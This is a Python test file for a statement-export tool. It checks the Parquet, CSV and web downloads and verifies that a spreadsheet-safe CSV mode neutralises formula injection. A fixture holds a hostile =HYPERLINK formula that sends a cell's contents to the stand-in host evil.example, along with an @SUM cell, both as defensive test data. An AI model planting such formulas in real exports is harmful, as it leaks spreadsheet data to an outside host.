"""Exports read by the programs people open them with: DuckDB and pyarrow read the Parquet, the csv
module reads the flat CSV, the web's CSV downloads are flat and the spreadsheet one is formula-safe.

The store holds the project's own examples and a hostile document whose title and quotations start
with formula characters.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

import duckdb
import httpx
import pyarrow.parquet as pq
import pytest
from jsonschema import Draft202012Validator

from clirun import run, runner, wide_console  # noqa: F401  (wide_console: an autouse fixture)
from onrecord.cli import app
from onrecord.search import Query, Sort, iter_hit_rows
from onrecord.store import Store
from onrecord.store.export import FLAT_STATEMENT_COLUMNS
from onrecord.store.export_schema import TABLES, Table, arrow_schema, json_schema, markdown_table
from onrecord.store.statements import StatementFilter

ROOT = Path(__file__).resolve().parent.parent

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Council hears delegates")'
HOSTILE = f"""{HOSTILE_TITLE}

The delegate of Veldoria, Ambassador Rena Tolvik, told the Human Rights Council on Monday 3 March 2025
that human rights must never be used as a pretext to interfere in the internal affairs of states.

"@SUM(1+1) is not an answer to the displaced," said Foreign Minister Ilse Marrow of Arvenia.
"""
FORMULA_START = ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("export")
    (folder / "in").mkdir()
    (folder / "in" / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    db = folder / "export.db"
    run("ingest", str(ROOT / "examples"), str(folder / "in"), "--db", str(db))
    return db


def export(store: Path, out: Path, table: str, fmt: str, *extra: str) -> Path:
    run("export", "--what", table, "--format", fmt, "--output", str(out), "--db", str(store), *extra)
    return out


def jsonl(store: Path, tmp_path: Path, table: str, *extra: str) -> list[dict[str, Any]]:
    out = export(store, tmp_path / f"{table}.jsonl", table, "jsonl", *extra)
    return [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]


@pytest.mark.parametrize("table", list(Table))
def test_every_table_in_every_format_has_its_declared_shape(
    store: Path, tmp_path: Path, table: Table
) -> None:
    rows = jsonl(store, tmp_path, table.value)
    assert rows, f"no {table.value} exported"
    schema = json_schema(table)
    Draft202012Validator.check_schema(schema)
    validator = Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)
    assert [f"{e.json_path}: {e.message}" for row in rows for e in validator.iter_errors(row)] == []
    assert [list(row) for row in rows] == [[f.name for f in TABLES[table]]] * len(rows)  # in order

    parquet = export(store, tmp_path / f"{table.value}.parquet", table.value, "parquet")
    read = pq.read_table(parquet)
    assert read.schema.equals(arrow_schema(table)) and read.num_rows == len(rows)
    first = next(iter(rows[0]))  # the ids, in the same order
    assert read.column(first).to_pylist() == [r[first] for r in rows]

    out = export(store, tmp_path / f"{table.value}.csv", table.value, "csv")
    with out.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        flat = list(reader)
    expected = FLAT_STATEMENT_COLUMNS if table is Table.STATEMENTS else tuple(f.name for f in TABLES[table])
    assert tuple(reader.fieldnames or ()) == expected and len(flat) == len(rows)
    assert not [cell for r in flat for cell in r.values() if cell.startswith(("{", "[{", '["'))]


def test_an_empty_store_exports_its_columns(tmp_path: Path) -> None:
    Store(tmp_path / "empty.db").close()
    empty = tmp_path / "empty.db"
    parquet = pq.read_table(export(empty, tmp_path / "s.parquet", "statements", "parquet"))
    assert parquet.num_rows == 0 and parquet.schema.equals(arrow_schema("statements"))
    header = export(empty, tmp_path / "s.csv", "statements", "csv").read_text(encoding="utf-8")
    assert header.splitlines() == [",".join(FLAT_STATEMENT_COLUMNS)]


def test_duckdb_reads_the_parquet_and_groups_on_the_speakers_country(store: Path, tmp_path: Path) -> None:
    rows = jsonl(store, tmp_path, "statements")
    parquet = export(store, tmp_path / "statements.parquet", "statements", "parquet")
    con = duckdb.connect()
    counted = dict(con.execute(f"select speaker.country, count(*) from '{parquet}' group by 1").fetchall())
    expected: dict[str | None, int] = {}
    for row in rows:
        expected[row["speaker"]["country"]] = expected.get(row["speaker"]["country"], 0) + 1
    assert counted == expected and len([c for c in counted if c]) >= 1
    types = con.execute(
        f"select typeof(document.published), typeof(speaker.roles), typeof(content.start),"
        f" typeof(positions) from '{parquet}' limit 1"
    ).fetchone()
    assert types is not None
    assert types[:3] == ("DATE", "VARCHAR[]", "BIGINT") and types[3].startswith("STRUCT(")
    roles = con.execute(f"select count(*) from (select unnest(speaker.roles) from '{parquet}')").fetchone()
    assert roles == (sum(len(r["speaker"]["roles"]) for r in rows),)


def test_the_flat_csv_has_one_column_per_scalar_and_keeps_the_text(store: Path, tmp_path: Path) -> None:
    rows = {r["id"]: r for r in jsonl(store, tmp_path, "statements")}
    out = export(store, tmp_path / "statements.csv", "statements", "csv")
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    flat = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert len(flat) == len(rows)
    for line in flat:
        row = rows[int(line["statement_id"])]
        speaker, content = row["speaker"], row["content"]
        assert line["content"] == content["text"]  # byte-faithful: the hostile text as it is
        assert (int(line["content_start"]), int(line["content_end"])) == (content["start"], content["end"])
        assert line["speaker"] == speaker["name"] and line["speaker_country"] == (speaker["country"] or "")
        assert line["speaker_roles"] == "; ".join(speaker["roles"])
        assert line["positions"] == "; ".join(p["id"] for p in row["positions"])
        assert line["title"] == (row["document"]["title"] or "")
    assert any(line["title"] == HOSTILE_TITLE for line in flat)
    assert any(line["positions"] and line["figures"] for line in flat)
    searched = run("search", "displaced", "--format", "csv", "--db", str(store))
    assert searched.splitlines()[0] == ",".join(FLAT_STATEMENT_COLUMNS)


def hostile_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(FORMULA_START)
    ]


def test_the_spreadsheet_flavour_makes_formulas_inert(store: Path, tmp_path: Path) -> None:
    plain = export(store, tmp_path / "plain.csv", "statements", "csv").read_text(encoding="utf-8")
    excel_bytes = export(store, tmp_path / "excel.csv", "statements", "csv", "--excel").read_bytes()
    assert excel_bytes.startswith(b"\xef\xbb\xbf")
    excel = excel_bytes.decode("utf-8-sig")
    dangerous = hostile_cells(plain)
    assert HOSTILE_TITLE in dangerous and any(c.startswith("@SUM") for c in dangerous)
    assert hostile_cells(excel) == []
    assert f"'{HOSTILE_TITLE}" in [c for row in csv.reader(io.StringIO(excel, newline="")) for c in row]
    result = runner.invoke(app, ["export", "--what", "statements", "--excel", "--db", str(store)])
    assert result.exit_code != 0  # a flavour of CSV only


def test_where_takes_the_search_filters(store: Path, tmp_path: Path) -> None:
    where = ("--where", "body=Human Rights Council", "--where", "from=2025-01-01", "--where", "kind=direct")
    selected = jsonl(store, tmp_path, "statements", *where)
    filters = StatementFilter(body="Human Rights Council", date_from="2025-01-01", kind="direct")
    with Store(store, readonly=True) as opened:
        searched = list(iter_hit_rows(opened.conn, Query("", filters, Sort.OLDEST)))
        everything = list(iter_hit_rows(opened.conn, Query("", StatementFilter(), Sort.OLDEST)))
    assert 0 < len(selected) < len(everything)
    assert sorted(r["id"] for r in selected) == sorted(r["id"] for r in searched)
    speakers = jsonl(store, tmp_path, "speakers", *where)
    assert {s["id"] for s in speakers} == {r["speaker"]["id"] for r in selected}
    figures = jsonl(store, tmp_path, "figures", "--where", "q=displaced")
    with Store(store, readonly=True) as opened:
        matched = {
            r["id"] for r in iter_hit_rows(opened.conn, Query("displaced", StatementFilter(), Sort.OLDEST))
        }
    assert figures and {f["statement_id"] for f in figures} <= matched
    for bad, reason in (
        ("colour=red", "unknown filter 'colour'"),
        ("session=x", "whole number"),
        ("china", "NAME=VALUE"),
    ):
        result = runner.invoke(app, ["export", "--what", "statements", "--where", bad, "--db", str(store)])
        assert result.exit_code != 0 and reason in str(result.exception), bad


def _get(store: Path, *paths: str) -> list[httpx.Response]:
    """GET each path from the web app, in process."""
    from onrecord.web.app import create_app

    async def fetch() -> list[httpx.Response]:
        transport = httpx.ASGITransport(app=create_app(store))
        async with httpx.AsyncClient(transport=transport, base_url="http://onrecord.test") as client:
            return [await client.get(path) for path in paths]

    return asyncio.run(fetch())


def test_the_web_downloads_are_flat_and_the_spreadsheet_one_formula_safe(store: Path) -> None:
    page, plain, excel, schema, unknown = _get(
        store,
        "/?q=displaced",
        "/api/v1/statements?q=displaced&format=csv",
        "/api/v1/statements?q=displaced&format=excel",
        "/api/v1/schema/statements",
        "/api/v1/schema/nothing",
    )
    assert "format=excel" in page.text and "format=csv" in page.text
    flat = list(csv.DictReader(io.StringIO(plain.text, newline="")))
    assert flat and list(flat[0]) == list(FLAT_STATEMENT_COLUMNS)
    assert not [c for r in flat for c in r.values() if c.startswith(("{", "[{", '["'))]
    assert any(c.startswith("@SUM") for r in flat for c in r.values())
    assert excel.content.startswith(b"\xef\xbb\xbf") and "attachment" in excel.headers["content-disposition"]
    safe = excel.content.decode("utf-8-sig")
    assert hostile_cells(safe) == [] and len(list(csv.DictReader(io.StringIO(safe, newline="")))) == len(flat)
    assert schema.json() == json_schema("statements") and unknown.status_code == 422


def test_the_readme_tables_are_the_schema(tmp_path: Path) -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    for table in Table:
        assert markdown_table(table) in readme, (
            f"README's {table.value} table is not the schema's:\n{markdown_table(table)}"
        )
    assert ",".join(FLAT_STATEMENT_COLUMNS) in readme
    printed = json.loads(run("export", "--what", "figures", "--schema"))
    assert printed == json_schema("figures") and printed["properties"]["value"]["type"] == "number"
